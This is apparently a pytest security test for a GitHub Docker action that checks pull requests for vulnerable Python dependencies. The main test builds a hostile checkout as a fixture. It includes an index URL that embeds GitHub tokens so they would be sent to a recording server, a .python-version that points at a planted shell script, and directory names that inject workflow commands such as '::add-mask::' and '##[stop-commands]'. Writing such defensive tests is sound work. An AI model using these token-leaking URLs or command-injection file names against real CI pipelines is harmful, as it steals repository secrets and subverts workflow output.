"""A hostile pull request against the real image, run exactly as GitHub runs a Docker action.

One checkout carries several attacks at once: an index URL that names the token and points at a
recording server, a ``.python-version`` naming a program it ships, directory names that are
workflow commands, and a vendored Starlette. The image runs on ``pull_request`` with the token in
its environment, as the runner starts it.
"""

from __future__ import annotations

import json
import stat
from pathlib import Path

import pytest

from tests.actionrun import REPOSITORY, TOKEN, Runner, run_container
from tests.conftest import write_tree
from tests.fakegithub import FakeGitHub
from tests.fakeindex import FakeIndex
from tests.security.runner import commands

pytestmark = pytest.mark.container

PR_EVENT = {"number": 7, "pull_request": {"number": 7, "head": {"repo": {"full_name": REPOSITORY}}}}
VENDORED = '[project]\nname = "starlette"\nversion = "0.29.0"\n'
RUNTIME = "runtime-token-in-the-container"
OURS = {"error", "warning", "notice", "group", "endgroup", "add-mask"}


def test_a_hostile_pull_request_gets_nothing_out_of_the_image(
    image: str, fake: FakeGitHub, tmp_path: Path
) -> None:
    workspace = tmp_path / "workspace"
    evil = '#!/bin/sh\necho ran >> /github/workspace/canary\nexec python3 "$@"\n'
    with FakeIndex({}) as index:
        leak = index.url.replace("/simple", "/leak/${GITHUB_TOKEN}/${ACTIONS_RUNTIME_TOKEN}/simple")
        write_tree(
            workspace,
            {
                "api/requirements.txt": f"--extra-index-url {leak}\nstarlette>=0.27,<0.28\n",
                "api/.python-version": "./evil/python\n",
                "api/evil/python": evil,
                "x\n::add-mask::reproduced\n/requirements.txt": "starlette==0.27.0\n",
                "##[stop-commands]pwned/requirements.txt": "starlette==0.27.0\n",
                "vendored-copy/requirements.txt": "-e ./vendor/starlette\n",
                "vendored-copy/vendor/starlette/pyproject.toml": VENDORED,
            },
        )
        script = workspace / "api" / "evil" / "python"
        script.chmod(script.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
        run = run_container(
            Runner(tmp_path / "runner"),
            image,
            fake.url,
            workspace,
            "pull_request",
            PR_EVENT,
            inputs={"audit": "off", "index-env": "*"},
            extra_env={"GITHUB_TOKEN": TOKEN, "ACTIONS_RUNTIME_TOKEN": RUNTIME},
        )
        asked = [(r.path, r.authorization) for r in index.log]
    output = run.stdout + run.stderr
    assert run.returncode == 1, output[-4000:]
    assert asked == []  # an unlisted declared index is not contacted on a pull request
    assert not (workspace / "canary").exists()
    found = commands(run.stdout, run.stderr)
    assert {c.name for c in found} <= OURS and all(c.line.startswith("::") for c in found), found
    assert [c.line for c in found if c.name == "add-mask"] == [f"::add-mask::{TOKEN}"]
    assert output.count(TOKEN) == 1 and RUNTIME not in output
    targets = {t["root"]: t for t in json.loads(run.outputs["targets"])}
    assert targets["api"]["verdict"] == "reproduced"
    assert targets["vendored-copy"]["verdict"] == "inconclusive"
    assert "not a release from the package index" in targets["vendored-copy"]["reason"]
    [comment] = fake.comments(REPOSITORY, 7)
    # Listed under the table as not known to be safe, never collapsed and never "not reproduced".
    unchecked = comment["body"].split("**Could not be checked**", 1)
    assert len(unchecked) == 2 and "vendored-copy" in unchecked[1].split("<details>", 1)[0]


def test_the_image_refuses_a_cache_in_the_workspace(image: str, fake: FakeGitHub, tmp_path: Path) -> None:
    workspace = write_tree(
        tmp_path / "workspace",
        {"requirements.txt": "starlette==0.27.0\n", ".cache/verdicts/forged.json": "{}"},
    )
    run = run_container(
        Runner(tmp_path / "runner"),
        image,
        fake.url,
        workspace,
        "pull_request",
        PR_EVENT,
        inputs={"cache-dir": ".cache"},
    )
    assert run.returncode == 2, run.stdout[-3000:] + run.stderr[-3000:]
    assert "input `cache-dir`" in run.stdout and "inside the checkout" in run.stdout
    assert fake.comments(REPOSITORY, 7) == []
